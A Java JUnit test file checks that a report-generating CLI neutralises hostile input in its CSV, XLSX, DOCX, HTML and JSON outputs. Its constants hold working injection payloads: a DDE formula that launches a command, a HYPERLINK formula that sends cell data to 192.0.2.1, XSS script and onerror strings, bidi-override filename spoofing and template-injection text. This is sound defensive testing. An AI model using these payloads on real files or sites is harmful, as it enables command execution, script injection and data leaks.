package org.duxue.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Enumeration;
import java.util.List;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.InputSource;
import tools.jackson.databind.json.JsonMapper;

/** Malicious names and descriptions through the whole job into every format. */
class HostileTextsTest {

    private static final String PERIOD = "2023-06";
    private static final String DISTRICT = Papers.DISTRICT;

    private static final String FORMULA = "=cmd|' /C calc'!A0";
    private static final String SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\" onload=\"alert(3)";
    private static final String SPLIT = "x;=1+1;\t=1+2\t;\"=1+3\";＝1+4;y\n=1+5\r@SUM(1);-2+3;+2;"
            + "=HYPERLINK(\"http://192.0.2.1/?\"&A1);=cmd|'/C calc'!A0;z";
    private static final String TURNED = "\u202egnp.exe\u2066";
    private static final String FORBIDDEN = "前\u0001\u000b\ufffe\uffff后";
    private static final String EMOJI = "😀👩\u200d🏫";
    private static final String TEMPLATE = "{{title}} ${7*7} [no] &D&Z";
    private static final String LONG = "长长长" + longText();

    private static final Pattern FORBIDDEN_IN_XML =
            Pattern.compile("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\ufffe\\uffff]|&#x?0*(1|b|11);");
    private static final Pattern TURNS = Pattern.compile("[\\u202a-\\u202e\\u2066-\\u2069]");

    /** A tag with its attributes; a quotation mark in a value would end the value. */
    private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^<>\"]*(?:\"[^\"]*\"[^<>\"]*)*>");

    @TempDir
    static Path folder;

    private static Desk desk = new Desk(Path.of(""));

    @BeforeAll
    static void run() {
        desk = Papers.completeIn(folder.resolve("desk"));
        desk.registry(Papers.REGISTRY_HEADER
                + Papers.PRIMARY + "," + cell(FORMULA + SCRIPT + TURNED) + ",230399," + cell(TEMPLATE + SCRIPT)
                + ",primary,public,120,,,2023-01,\n"
                + Papers.JUNIOR + "," + cell(EMOJI + FORBIDDEN + LONG) + ",230399," + cell(TEMPLATE + SCRIPT)
                + ",junior,public,,90,,2023-01,\n"
                + Papers.KINDERGARTEN + "," + cell("@SUM(A1)" + TEMPLATE) + ",230399," + cell(TEMPLATE + SCRIPT)
                + ",kindergarten,private,,,40,2023-01,\n");
        desk.drop(
                "enforcement_230399_2023-06.csv",
                "agency,in_scope,officers,certified_officers\n" + cell("-1+1" + SCRIPT) + ",yes,3,1\n"
                        + cell("+" + EMOJI + FORBIDDEN + LONG) + ",yes,3,1\n");
        desk.drop(
                "equipment_" + Papers.PRIMARY + "_2023-06.csv",
                Papers.EQUIPMENT + "upgrade,U1,computer," + cell(FORMULA + SCRIPT + LONG) + ",5,,,,2022,1000,,\n");
        desk.drop(
                "safety_" + Papers.PRIMARY + "_2023-06.csv",
                Papers.SAFETY + "hazard,H2,fire," + cell(FORMULA + SCRIPT + TURNED) + ",2023-03-01,2023-05-01,\n"
                        + "hazard,H3,fire," + cell(EMOJI + FORBIDDEN + LONG) + ",2023-03-01,2023-05-01,\n"
                        + "hazard,H5,fire," + cell(SPLIT) + ",2023-03-01,2023-05-01,\n"
                        + "hazard,H4,fire," + cell("两\n行") + ",2023-03-01,2023-05-01,\n");
        desk.drop(
                "ledger_230399_2023-06.csv",
                "item_id,responsible_unit,measure,progress,note\nsafety.hazard/" + Papers.PRIMARY + "/H2,"
                        + cell(FORMULA + SCRIPT + FORBIDDEN) + "," + cell(FORMULA + TEMPLATE) + "," + cell(LONG) + ","
                        + cell(TURNED + EMOJI + SPLIT) + "\n");
        Desk.Said said = desk.call("run", "--period", PERIOD);
        assertThat(said.exit()).as(said.out() + said.err()).isIn(0, 3);
    }

    /** Not one repeated letter: that would be refused as a decompression bomb. */
    private static String longText() {
        StringBuilder text = new StringBuilder();
        int letter = 7;
        while (text.length() < 33_000) {
            letter = (letter * 48_271) % 20_000;
            text.append((char) (0x4e00 + Math.floorMod(letter + text.length() * 31, 20_000)));
        }
        return text.append('尾').toString();
    }

    private static String cell(String text) {
        return '"' + text.replace("\"", "\"\"") + '"';
    }

    private static Path result(String name) {
        return desk.result(PERIOD, DISTRICT, name);
    }

    @Test
    void areAllThereToDoHarm() {
        assertThat(Desk.text(result("ledger.csv"))).contains("cmd|", "<script>", "😀", "{{title}}", "长长长");
    }

    @Test
    void makeNoFormulaInAnyTable() throws IOException {
        List<String> formulas = new ArrayList<>();
        List<Path> tables = Desk.filesBelow(desk.output()).stream()
                .filter(file ->
                        file.toString().endsWith(".csv") && !file.toString().contains(".duxue"))
                .toList();
        for (Path table : tables) {
            try (CSVParser rows = CSVParser.parse(Desk.text(table).substring(1), CSVFormat.RFC4180)) {
                for (CSVRecord row : rows) {
                    row.forEach(text -> note(table, text, formulas));
                }
            }
        }
        assertThat(tables).hasSizeGreaterThan(20);
        assertThat(formulas).isEmpty();
    }

    /** Also with other separators, as in other locales. */
    @ParameterizedTest
    @ValueSource(chars = {',', ';', '\t'})
    void areTextsWhenAnOfficeProgramOpensATable(char separator) throws Exception {
        Office.isNeeded("soffice");
        Path place = Files.createDirectories(folder.resolve("tables-" + (int) separator));
        List<Path> tables = List.of(
                result("ledger.csv"),
                result("schools.csv"),
                result("area-5-enforcement.csv"),
                desk.feedbackFile(Papers.PRIMARY, "safety_" + Papers.PRIMARY + "_2023-06.csv"));

        new Office(place).openTables(separator, tables);

        List<String> shown = new ArrayList<>();
        List<String> formulas = new ArrayList<>();
        for (Path table : tables) {
            Path opened = place.resolve(table.getFileName().toString().replaceFirst("\\.csv$", ".xlsx"));
            try (InputStream in = Files.newInputStream(opened);
                    XSSFWorkbook book = new XSSFWorkbook(in)) {
                for (Row row : book.getSheetAt(0)) {
                    for (Cell cell : row) {
                        if (cell.getCellType() == CellType.FORMULA) {
                            formulas.add(table.getFileName() + " " + cell.getAddress() + ": " + cell.getCellFormula());
                        }
                        shown.add(cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : "");
                    }
                }
            }
        }
        assertThat(formulas).isEmpty();
        assertThat(shown).anyMatch(text -> text.contains("=cmd|") && !text.startsWith("="));
    }

    private static void note(Path table, String text, List<String> formulas) {
        if (!text.isEmpty() && "=+-@\t\r\n＝＋－＠".indexOf(text.charAt(0)) >= 0 && !text.matches("-[\\d.]+")) {
            formulas.add(table.getFileName() + ": " + text.substring(0, Math.min(40, text.length())));
        }
    }

    @Test
    void areTextsOfBearableLengthInTheWorkbook() throws IOException {
        int quoted = 0;
        try (InputStream in = Files.newInputStream(result("workbook.xlsx"));
                XSSFWorkbook book = new XSSFWorkbook(in)) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            String text = cell.getStringCellValue();
                            assertThat(text.length()).isLessThanOrEqualTo(32_767);
                            assertThat(TURNS.matcher(text).find()).isFalse();
                            quoted += text.startsWith("=cmd")
                                            && cell.getCellStyle().getQuotePrefixed()
                                    ? 1
                                    : 0;
                        }
                    }
                }
                assertThat(sheet.getHeader().getLeft().replace("&&", "")).doesNotContain("&D", "&Z");
            }
        }
        assertThat(quoted).isPositive();
    }

    @ParameterizedTest
    @ValueSource(strings = {"workbook.xlsx", "report.docx"})
    void leaveEveryPartOfAnOfficeFileWellFormed(String name) throws Exception {
        try (ZipFile parts = new ZipFile(result(name).toFile())) {
            for (Enumeration<? extends ZipEntry> all = parts.entries(); all.hasMoreElements(); ) {
                ZipEntry part = all.nextElement();
                if (part.getName().endsWith(".xml") || part.getName().endsWith(".rels")) {
                    String xml = new String(parts.getInputStream(part).readAllBytes(), StandardCharsets.UTF_8);
                    assertThat(FORBIDDEN_IN_XML.matcher(xml).find())
                            .as(part.getName())
                            .isFalse();
                    DocumentBuilderFactory.newInstance()
                            .newDocumentBuilder()
                            .parse(new InputSource(new StringReader(xml)));
                }
            }
        }
    }

    @Test
    void areNoTemplateOfTheReply() throws IOException {
        try (InputStream in = Files.newInputStream(result("report.docx"));
                XWPFDocument reply = new XWPFDocument(in)) {
            String text = String.join(
                    "\n",
                    reply.getParagraphs().stream()
                            .map(paragraph -> paragraph.getText())
                            .toList());
            assertThat(text).contains("{{title}} ${7*7}", "<script>alert(1)</script>");
            assertThat(TURNS.matcher(text).find()).isFalse();
        }
    }

    @Test
    void executeNothingOnThePage() {
        String page = Desk.text(result("report.html"));

        assertHarmless(page);
        assertThat(page.split("<script", -1)).hasSize(2);
        assertThat(page.length()).isLessThan(400_000);
    }

    @Test
    void executeNothingOnTheFeedbackPages() {
        List<Path> pages = Desk.filesBelow(desk.output().resolve("feedback")).stream()
                .filter(file -> file.toString().endsWith(".html"))
                .toList();

        assertThat(pages).hasSizeGreaterThan(10).allSatisfy(page -> {
            assertHarmless(Desk.text(page));
            assertThat(Desk.text(page)).doesNotContain("<script");
        });
    }

    private static void assertHarmless(String page) {
        assertThat(page).doesNotContain("<script>alert", "<img");
        assertThat(TAG.matcher(page).results().map(tag -> tag.group().replaceAll("\"[^\"]*\"", "")))
                .hasSizeGreaterThan(10)
                .noneMatch(tag -> tag.matches("(?s).*\\son\\w+=.*"));
        assertThat(TURNS.matcher(page).find()).isFalse();
        assertThat(FORBIDDEN_IN_XML.matcher(page).find()).isFalse();
    }

    @Test
    void leaveTheFigureFileReadable() {
        var summary = JsonMapper.shared().readTree(Desk.text(result("summary.json")));

        assertThat(summary.path("schools").valueStream())
                .anyMatch(row -> row.path("school_name").asString().startsWith(FORMULA + SCRIPT));
    }

    @Test
    void leaveAPublicPackageAsHarmless() throws IOException {
        Path zip = folder.resolve("public.zip");

        assertThat(desk.call("export", "--period", PERIOD, "--out", zip.toString(), "--public")
                        .exit())
                .isZero();

        try (ZipFile packed = new ZipFile(zip.toFile());
                InputStream page = packed.getInputStream(packed.getEntry("230399/report.html"))) {
            assertHarmless(new String(page.readAllBytes(), StandardCharsets.UTF_8));
        }
    }

    /** LibreOffice opens it without a question. */
    @Test
    void openInASpreadsheet() throws Exception {
        Office.isNeeded("soffice");
        Path place = Files.createDirectories(folder.resolve("office-workbook"));

        new Office(place).convert("pdf", result("workbook.xlsx"));

        assertThat(Desk.filesBelow(place)).anyMatch(file -> file.toString().endsWith(".pdf"));
    }

    /** And has read what was written; to set names of 33,000 letters on pages would take a minute. */
    @Test
    void openInAWordProcessor() throws Exception {
        Office.isNeeded("soffice");
        Path place = Files.createDirectories(folder.resolve("office-reply"));

        new Office(place).convert("txt:Text (encoded):UTF8", result("report.docx"));

        assertThat(Desk.text(place.resolve("report.txt"))).contains("{{title}} ${7*7}", "<script>alert(1)</script>");
    }
}
